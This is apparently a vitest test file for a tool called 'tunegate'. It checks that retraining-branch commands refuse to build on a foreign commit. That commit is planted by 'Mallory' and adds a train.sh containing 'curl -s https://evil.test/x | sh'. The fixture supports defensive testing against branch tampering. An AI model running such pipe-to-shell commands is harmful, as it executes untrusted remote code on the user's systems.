// `tunegate drift` proposes feedback rows on a local `tunegate/retrain/<model>` branch: a commit someone else put
// on that branch (a trainer that pipes curl into sh) must never ride along in the next retraining commit.
import { mkdtemp, readFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import path from 'node:path'
import { describe, expect, it } from 'vitest'
import { LocalHost } from '../src/host/local-host.js'
import { git } from '../src/registry/git.js'
import { DRIFT_TRAIN, driftRepo, feedbackRow } from './helpers/drift-data.js'
import { makeRepo, writeRepoFile } from './helpers/git-repo.js'
import { runCli } from './helpers/run-cli.js'

const BRANCH = 'tunegate/retrain/content-classifier'

/** A commit by mallory on top of a branch, made with plumbing (the work tree stays as it is); returns it. */
async function foreignCommit(repo: string, branch: string, file: string, content: string): Promise<string> {
  const env = {
    GIT_AUTHOR_NAME: 'Mallory',
    GIT_AUTHOR_EMAIL: 'mallory@evil.test',
    GIT_COMMITTER_NAME: 'Mallory',
    GIT_COMMITTER_EMAIL: 'mallory@evil.test',
    GIT_INDEX_FILE: path.join(await mkdtemp(path.join(tmpdir(), 'tg-index-')), 'index')
  }
  const head = (await git(repo, ['rev-parse', `refs/heads/${branch}`])).trim()
  await git(repo, ['read-tree', head], { env })
  const blob = (await git(repo, ['hash-object', '-w', '--stdin'], { input: content })).trim()
  await git(repo, ['update-index', '--add', '--cacheinfo', `100644,${blob},${file}`], { env })
  const tree = (await git(repo, ['write-tree'], { env })).trim()
  const commit = (await git(repo, ['commit-tree', tree, '-p', head, '-m', 'faster trainer'], { env })).trim()
  await git(repo, ['update-ref', `refs/heads/${branch}`, commit, head])
  return commit
}

describe('tunegate drift on a retraining branch with a foreign commit', () => {
  it('refuses, names the commit and its author, and leaves the branch and its pull record as they were', async () => {
    const { repo } = await driftRepo()
    await writeRepoFile(repo, 'feedback.jsonl', feedbackRow('fb-1', 'Choosing a cordless lawnmower') + '\n')
    const args = ['drift', '--samples', 'samples/shifted.jsonl', '--feedback', 'feedback.jsonl']
    const first = await runCli(args, repo)
    expect(first.code, first.stderr).toBe(0)
    expect(first.stdout).toContain(`Retraining branch ${BRANCH}`)

    const planted = await foreignCommit(repo, BRANCH, 'train.sh', 'curl -s https://evil.test/x | sh\n')
    const records = path.join(repo, '.tunegate/pulls', `branch-${BRANCH.replace(/\//g, '_')}.json`)
    const record = await readFile(records, 'utf8')
    await writeRepoFile(repo, 'feedback.jsonl', feedbackRow('fb-2', 'Raised beds for allotments') + '\n')
    const second = await runCli(args, repo)
    expect(second.code).not.toBe(0)
    expect(second.stderr).toContain(
      `Branch ${BRANCH} has commits not made by Tunegate (${planted.slice(0, 7)} by Mallory <mallory@evil.test>); nothing was written to it.`
    )
    expect(second.stderr).not.toMatch(/\n\s+at /)
    // Nothing lost, nothing added: the branch still ends with mallory's commit, the record is unchanged.
    expect((await git(repo, ['rev-parse', `refs/heads/${BRANCH}`])).trim()).toBe(planted)
    expect(await readFile(records, 'utf8')).toBe(record)
    expect(await git(repo, ['show', `${BRANCH}:${DRIFT_TRAIN}`])).not.toContain('fb-2')
  }, 120_000)
})

describe("the local host's retraining branch", () => {
  const change = (n: number) => ({
    branch: 'tunegate/retrain/m',
    base: 'main',
    title: 't',
    body: 'b',
    commitMessage: `feedback ${n}`,
    files: {},
    append: { 'registry/feedback.jsonl': `{"id":${n}}\n` }
  })

  it("builds on its own commits, one after another, and refuses a person's commit on top of them", async () => {
    const repo = await makeRepo()
    const host = new LocalHost(await mkdtemp(path.join(tmpdir(), 'tg-local-')), repo)
    await host.upsertPullRequest(change(1))
    await host.upsertPullRequest(change(2))
    expect((await git(repo, ['rev-list', '--count', 'main..tunegate/retrain/m'])).trim()).toBe('2')
    const planted = await foreignCommit(repo, 'tunegate/retrain/m', 'train.sh', 'curl x | sh\n')
    await expect(host.upsertPullRequest(change(3))).rejects.toThrow(
      `has commits not made by Tunegate (${planted.slice(0, 7)} by Mallory <mallory@evil.test>)`
    )
    expect((await git(repo, ['rev-parse', 'tunegate/retrain/m'])).trim()).toBe(planted)
  })

  it('refuses a branch with commits that has no pull record, and builds on one that has none beyond the base', async () => {
    const repo = await makeRepo()
    const host = new LocalHost(await mkdtemp(path.join(tmpdir(), 'tg-local-')), repo)
    await git(repo, ['branch', 'tunegate/retrain/m', 'main'])
    const pr = await host.upsertPullRequest(change(1))
    expect(pr).toMatchObject({ created: true, changed: true })

    const other = new LocalHost(await mkdtemp(path.join(tmpdir(), 'tg-local-')), repo)
    await expect(other.upsertPullRequest(change(2))).rejects.toThrow(
      /Branch tunegate\/retrain\/m has commits that are not on main and no open pull request \([0-9a-f]{7} by /
    )
  })
})
